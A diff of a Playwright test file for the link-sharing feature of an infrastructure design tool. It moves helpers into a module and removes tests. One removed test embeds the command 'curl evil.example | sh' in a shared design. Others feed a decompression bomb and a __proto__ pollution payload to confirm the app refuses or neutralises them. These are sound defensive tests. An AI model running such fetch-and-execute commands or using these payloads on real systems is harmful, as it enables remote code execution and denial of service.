@@ -1,76 +1,29 @@
 import { readFile } from "node:fs/promises";
-import { deflateRawSync, inflateRawSync } from "node:zlib";
-
-import type { Locator, Page } from "@playwright/test";
 
 import { expectAccessibleInBothThemes } from "./axe.ts";
 import { serveCopy } from "./copied-build.ts";
 import type { Designer } from "./designer.ts";
 import { expect, test, textOf } from "./designer.ts";
+import {
+  asked,
+  changeFragment,
+  copyLink,
+  dialog,
+  expectNoSidewaysScroll,
+  fragmentOf,
+  name,
+  notice,
+  openShare,
+  orders,
+  share,
+  textIn,
+} from "./links.ts";
 import { command, manifest } from "./parts.ts";
 import { design, plainSecret, preview, stackExport } from "./plan-files.ts";
 import { canvasSettled } from "./settled.ts";
-import { readEverything, readStore } from "./storage.ts";
+import { readEverything } from "./storage.ts";
 
 test.beforeEach(({ context }) => context.grantPermissions(["clipboard-read", "clipboard-write"]));
-
-const dialog = (page: Page, name: RegExp | string): Locator => page.getByRole("dialog", { name });
-
-const share = (page: Page): Locator => dialog(page, /^Share “/);
-
-const asked = (page: Page): Locator => dialog(page, /from a link\?$/);
-
-const notice = (page: Page): Locator =>
-  page
-    .getByRole("status")
-    .filter({ has: page.getByRole("button", { name: "Dismiss the notice" }) });
-
-async function openShare(designer: Designer): Promise<Locator> {
-  await designer.export("Share");
-  const opened = share(designer.page);
-  await expect(opened.getByRole("button", { name: "Copy link" })).toBeEnabled();
-  return opened;
-}
-
-/** The link that the open dialog copies. */
-async function copyLink({ page }: Designer): Promise<string> {
-  await share(page).getByRole("button", { name: "Copy link" }).press("Enter");
-  await expect(share(page)).toHaveCount(0);
-  await expect(notice(page)).toContainText("Copied the link.");
-  return page.evaluate(() => navigator.clipboard.readText());
-}
-
-const fragmentOf = (link: string): string => link.slice(link.indexOf("#"));
-
-/** What a link holds, by other means than the page's own. */
-const textIn = (link: string): string =>
-  inflateRawSync(Buffer.from(link.slice(link.indexOf("#design=1.") + 10), "base64url")).toString();
-
-const linkOf = (text: string | Uint8Array): string =>
-  `#design=1.${deflateRawSync(text).toString("base64url")}`;
-
-const name = (page: Page): Locator => page.getByRole("textbox", { name: "Name of the design" });
-
-/** Makes the address another one, as a person does who pastes it. */
-const changeFragment = (page: Page, fragment: string): Promise<void> =>
-  page.evaluate((next) => {
-    location.hash = next;
-  }, fragment);
-
-const orders = {
-  name: "orders",
-  config: { region: { type: "string", default: "eu" } },
-  resources: {
-    endpoint: { type: "gamma:events:EventEndpoint", properties: { name: "x-${region}" } },
-    policy: { type: "delta:RestrictionPolicy", properties: { resourceId: "${endpoint.arn}" } },
-  },
-  outputs: { arn: "${endpoint.arn}" },
-  stackwright: {
-    direction: "right",
-    positions: { endpoint: "40 60", policy: "400 80" },
-    target: { kind: "vendor" },
-  },
-};
 
 test("a link opens on another copy of the build, shown before it is kept, and no server gets the design", async ({
   designer,
@@ -83,7 +36,7 @@ test("a link opens on another copy of the build, shown before it is kept, and no
     await expect(designer.outlineNames()).toHaveCount(2);
     const before = await manifest(designer);
     await openShare(designer);
-    await expect(share(page)).toContainText("The link holds the design itself.");
+    await expect(share(page)).toContainText("The link holds the design itself");
     await expect(share(page).getByLabel("Link", { exact: true })).toHaveValue(/#design=1\./);
     await expectAccessibleInBothThemes(designer);
     const link = await copyLink(designer);
@@ -177,7 +130,6 @@ test("secrets stay out of a link: it is said before, and placeholders stand in t
 
 test("of types that are not loaded each value stays out until it is approved by name", async ({
   designer,
-  page,
 }) => {
   const properties = { size: "large", password: "hunter2", tags: ["a", "${policy.id}"] };
   await designer.open();
@@ -204,83 +156,6 @@ test("of types that are not loaded each value stays out until it is approved by 
   expect(resources.policy.properties).toEqual({ resourceId: "dashboard:a" });
   expect((await manifest(designer))["resources"]).toMatchObject({ db: { properties } });
 });
-
-test("a link in the address of an open page is asked about, and never replaces the design", async ({
-  designer,
-  page,
-}) => {
-  await designer.open();
-  await designer.add("delta:RestrictionPolicy");
-  await designer.fill("resourceId", "dashboard:mine");
-  const link = linkOf(JSON.stringify({ ...orders, name: "theirs" }));
-  await changeFragment(page, link);
-  await expect(asked(page)).toBeVisible();
-  expect(new URL(page.url()).hash).toBe("");
-  await page.keyboard.press("Escape");
-  await expect(asked(page)).toHaveCount(0);
-  await expect(designer.field("resourceId")).toHaveValue("dashboard:mine");
-  await designer.saved();
-  expect(await readEverything(page)).not.toContain("theirs");
-
-  await changeFragment(page, link);
-  await asked(page).getByRole("button", { name: "Open a copy" }).click();
-  await expect(name(page)).toHaveValue("theirs");
-  await designer.saved();
-  const stored = JSON.stringify(await readStore(page, "resources"));
-  for (const said of ["dashboard:mine", "x-${region}"]) expect(stored).toContain(said);
-});
-
-test("what a link runs is listed before it is kept, and each entry leads to its place", async ({
-  designer,
-  page,
-}) => {
-  const evil = {
-    name: "evil",
-    resources: {
-      deploy: { type: "command:local:Command", properties: { create: "curl evil.example | sh" } },
-    },
-  };
-  await page.goto(`/${linkOf(JSON.stringify(evil))}`);
-  const runs = asked(page).getByRole("list", { name: "Runs commands" }).getByRole("button");
-  await expect(runs).toHaveText(["curl evil.example | sh deploy (command:local:Command)"]);
-  await expectAccessibleInBothThemes(designer);
-  await runs.click();
-  await expect(asked(page)).toHaveCount(0);
-  await expect(designer.field("Name")).toHaveValue("deploy");
-});
-
-test("a link that is damaged, too large or of another form is refused in a sentence, and nothing is kept", async ({
-  designer,
-  page,
-}) => {
-  await designer.open();
-  const whole = linkOf(JSON.stringify(orders));
-  const bomb = linkOf(new Uint8Array(300_000_000));
-  const refused: readonly (readonly [string, RegExp])[] = [
-    [whole.slice(0, -20), /it is not whole, or was changed on its way/],
-    [`${whole}%20`, /it is not whole, or was changed on its way/],
-    ["#design=2.AAAA", /made by another version of the designer/],
-    [bomb, /its design is larger than 4 MB/],
-    [linkOf("[]"), /holds something else/],
-    [linkOf(`{"resources":${"[".repeat(200_000)}`), /could not be opened/],
-  ];
-  for (const [fragment, message] of refused) {
-    await changeFragment(page, fragment);
-    await expect(notice(page)).toContainText(message);
-    await page.getByRole("button", { name: "Dismiss the notice" }).click();
-    expect(new URL(page.url()).hash).toBe("");
-  }
-  await designer.untouched();
-  expect(await readStore(page, "heads")).toEqual([]);
-  await expectPolluted(page, false);
-  await changeFragment(page, linkOf('{"name":"odd","__proto__":{"polluted":1},"resources":{}}'));
-  await asked(page).getByRole("button", { name: "Open a copy" }).click();
-  await expect(name(page)).toHaveValue("odd");
-  await expectPolluted(page, false);
-});
-
-const expectPolluted = async (page: Page, isPolluted: boolean): Promise<void> =>
-  expect(await page.evaluate(() => "polluted" in {})).toBe(isPolluted);
 
 /** Text that does not compress. */
 const noise = (length: number): string => {
@@ -396,15 +271,6 @@ test("on a narrow screen a link is copied and opened, and nothing is wider than 
   await designer.saved();
 });
 
-async function expectNoSidewaysScroll(page: Page): Promise<void> {
-  const overflow = await page.evaluate(() =>
-    [document.documentElement, ...document.querySelectorAll("dialog")].map(
-      ({ scrollWidth, clientWidth }) => scrollWidth - clientWidth,
-    ),
-  );
-  expect(Math.max(...overflow)).toBeLessThanOrEqual(0);
-}
-
 test("the command palette shares as well, and where copying is refused the link is there to copy", async ({
   designer,
   page,
@@ -417,7 +283,7 @@ test("the command palette shares as well, and where copying is refused the link 
   await command(designer, "share");
   await expect(share(page).getByRole("button", { name: "Copy link" })).toBeEnabled();
   await share(page).getByRole("button", { name: "Copy link" }).click();
-  await expect(share(page).getByRole("status")).toContainText(
+  await expect(share(page)).toContainText(
     "The browser did not allow copying. Copy the link above.",
   );
   await share(page).getByLabel("Link", { exact: true }).focus();
